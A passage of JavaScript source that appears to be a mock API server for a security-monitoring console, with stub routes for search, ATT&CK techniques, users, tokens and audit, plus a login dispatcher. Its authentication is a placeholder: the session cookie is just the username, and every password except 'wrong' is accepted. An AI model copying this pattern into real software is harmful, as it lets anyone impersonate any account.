  ['GET', /^\/search$/, (m, q) => { if (/\($/.test(q.query ?? '')) return bad(400, 'BadQuery', 'unexpected end of the query at column 12; expected a value'); const term = /"(.*)"/.exec(q.query ?? '')?.[1]?.replaceAll('\\\\', '\\').replaceAll('\\"', '"').toLowerCase(); return page([...activities.values()].map((a) => a.fields).filter((f) => (!term || Object.values(f).some((v) => String(v).toLowerCase().includes(term))) && (!q.from || f.eventTime >= Date.parse(q.from)) && (!q.to || f.eventTime <= Date.parse(q.to))).sort((a, b) => b.eventTime - a.eventTime), q) }],
  ['GET', /^\/lookup$/, (m, q) => { const text = q.q.toLowerCase(); const has = (...parts) => parts.some((p) => p.toLowerCase().includes(text)); return ok({ items: [...alerts.filter((a) => has(a.id)).map((a) => ({ kind: 'alert', id: a.id, label: a.model })), ...incidents.filter((i) => has(i.id)).map((i) => ({ kind: 'incident', id: i.id, label: i.name })), ...HOSTS.filter((h) => has(h.name, h.ip)).map((h) => ({ kind: 'endpoint', id: h.guid, label: h.name })), ...PEOPLE.filter((p) => has(p)).map((p) => ({ kind: 'account', id: p, label: p })), ...Object.entries(TECHNIQUES).filter((t) => has(...t)).map(([id, name]) => ({ kind: 'technique', id, label: name })), ...MODELS.filter((x) => has(x.name.en, x.name.ja)).map((x) => ({ kind: 'model', id: x.id, label: x.name })), ...FILTERS.filter((x) => has(x.title.en, x.title.ja)).map((x) => ({ kind: 'filter', id: x.id, label: x.title }))].slice(0, 20) }) }],
  ['GET', /^\/attack\/tactics$/, () => ok({ items: [...new Map(Object.values(TACTICS)).entries()].map(([id, name]) => ({ id, name })) })],
  ['GET', /^\/attack\/techniques\/([^/]+)$/, (m) => { const id = m[1]; if (!TECHNIQUES[id]) return bad(404, 'NotFound', 'No such technique.'); return ok({ id, name: TECHNIQUES[id], tactics: [tacticOf(id)], parent: id.includes('.') ? technique(id.split('.')[0]) : null, subtechniques: Object.keys(TECHNIQUES).filter((t) => t.startsWith(id + '.')).map(technique), groups: [{ id: 'G0016', name: 'APT29' }, { id: 'G0046', name: 'FIN7' }], software: [{ id: 'S0002', name: 'Mimikatz' }], filters: FILTERS.filter((f) => f.techniques.some((t) => t.id === id)), models: MODELS.filter((x) => x.techniques.some((t) => t.id === id)), detectionCount: detections.filter((d) => d.techniques.some((t) => t.id === id)).length }) }],
  ['GET', /^\/status$/, () => ok({ lake: { parts: 41, bytesOnDisk: 88123456, oldest: iso(NOW - 7 * 86400000), newest: iso(NOW) }, spool: { waiting: 0 }, deadLetters: { 'record without a time': 2, 'chunk damaged': 1 }, activities: 1204331, detections: detections.length, alerts: alerts.length, version: '0.1.0' })],
  ['GET', /^\/users$/, () => ok({ items: users })], ['POST', /^\/users$/, (m, q, body) => { users.push({ ...body, enabled: true, createdDateTime: iso(Date.now()) }); return { status: 201, body } }],
  ['PATCH', /^\/users\/(.+)$/, (m, q, body) => ok(Object.assign(users.find((u) => u.name === m[1]), body))], ['DELETE', /^\/users\/(.+)$/, (m) => { users.splice(users.findIndex((u) => u.name === m[1]), 1); return { status: 204 } }],
  ['GET', /^\/tokens$/, () => ok({ items: tokens })], ['POST', /^\/tokens$/, (m, q, body) => { const t = { id: hex(6), ...body, createdDateTime: iso(Date.now()) }; tokens.push(t); return { status: 201, body: { ...t, token: 'hin_' + hex(48) } } }], ['DELETE', /^\/tokens\/(.+)$/, (m) => { tokens.splice(tokens.findIndex((t) => t.id === m[1]), 1); return { status: 204 } }],
  ['GET', /^\/audit$/, (m, q) => page(audit.filter((a) => !q.search || JSON.stringify(a).includes(q.search)), q)],
  ['PATCH', /^\/me$/, () => ok({})], ['POST', /^\/me\/password$/, (m, q, body) => body.old === 'wrong' ? bad(400, 'BadRequest', 'The present password is wrong.') : ok({})],
]

export function makeHouse() {
  return {
    answer(method, path, query, body, who) {
      path = path.split('/').map(decodeURIComponent).join('/')
      if (path === '/login') return body.password === 'wrong' ? bad(401, 'Unauthorized', 'Wrong.') : ok(session(body.user), { headers: { 'Set-Cookie': `hinomi_session=${body.user}; HttpOnly; SameSite=Strict; Path=/` } })
      if (!who) return bad(401, 'Unauthorized', 'Log in first.')
      if (path === '/session') return ok(session(who))
      if (path === '/logout') return { status: 204, headers: { 'Set-Cookie': 'hinomi_session=; Max-Age=0; Path=/' } }
      for (const [verb, pattern, run] of ROUTES) { const match = verb === method && pattern.exec(path); if (match) return run(match, query, body, who) }
      return bad(404, 'NotFound', `No route ${method} ${path}.`)
    },
  }
}
